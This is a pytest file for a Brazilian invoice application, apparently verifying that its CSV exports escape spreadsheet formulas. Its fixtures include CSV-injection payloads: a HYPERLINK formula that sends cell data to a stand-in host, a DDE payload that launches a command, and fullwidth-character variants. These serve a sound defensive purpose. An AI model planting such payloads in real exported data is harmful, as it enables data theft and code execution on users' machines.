"""Exported spreadsheets never carry a live formula, whatever a WhatsApp user or the Receita's registry wrote."""

import csv
import io

import pytest

from agentnfe.infra.extensions import db
from agentnfe.models import ClienteTomador, EmpresaClienteTomador, FonteTomador, TipoDocumento
from agentnfe.planilha import celula_segura

from .. import factories

FORMULAS = ['=HYPERLINK("http://mal.example/?x="&A1,"clique")', "+55 11 9999", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\uff1dHYPERLINK(\"http://mal.example\")", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"]  # fmt: skip


@pytest.mark.parametrize("texto", FORMULAS)
def test_text_that_would_start_a_formula_is_kept_as_text(texto):
    assert celula_segura(texto) == "'" + texto


@pytest.mark.parametrize("valor", ["Consultoria", "R$ 1.500,00", "", None, 15, "a=b", " =1"])
def test_other_values_pass_unchanged(valor):
    assert celula_segura(valor) == valor


def linhas(resposta) -> list[list[str]]:
    """The rows of a CSV as Excel pt-BR reads it (UTF-8 BOM, `;`-separated)."""
    assert resposta.status_code == 200
    texto = resposta.get_data(as_text=True)
    assert texto.startswith("\ufeff")
    return list(csv.reader(io.StringIO(texto[1:]), delimiter=";"))


def test_note_and_registry_exports_neutralise_every_formula(client, auth, firmas):
    empresa = firmas["a"]["empresa"]
    tomador = ClienteTomador(
        documento="11444777000161", tipo_documento=TipoDocumento.CNPJ, razao_social="@SUM(A1:A9)",
        municipio="=cmd|' /C calc'!A0", fonte=FonteTomador.BRASILAPI,
    )  # fmt: skip
    db.session.add(tomador)
    db.session.flush()
    db.session.add(EmpresaClienteTomador(empresa=empresa, tomador=tomador, nome="+Cliente =1"))
    for descricao in FORMULAS:
        factories.nota(db.session, empresa, descricao=descricao, tomador=tomador)
    db.session.commit()
    auth.login("contador@a.com")
    notas = linhas(client.get("/admin/notas/export/csv/"))
    cabecalho, corpo = notas[0], notas[1:]
    descricoes = [linha[cabecalho.index("Descrição")] for linha in corpo]
    assert sorted(descricoes) == sorted("'" + f for f in FORMULAS)
    registro = linhas(client.get("/admin/tomadores/export/csv/"))
    celulas = [celula for linha in registro[1:] for celula in linha]
    assert "'@SUM(A1:A9)" in celulas and "'=cmd|' /C calc'!A0" in celulas
    every = [celula for linha in notas[1:] + registro[1:] for celula in linha]
    assert not [celula for celula in every if celula[:1] in ("=", "+", "-", "@", "\t", "\r")]
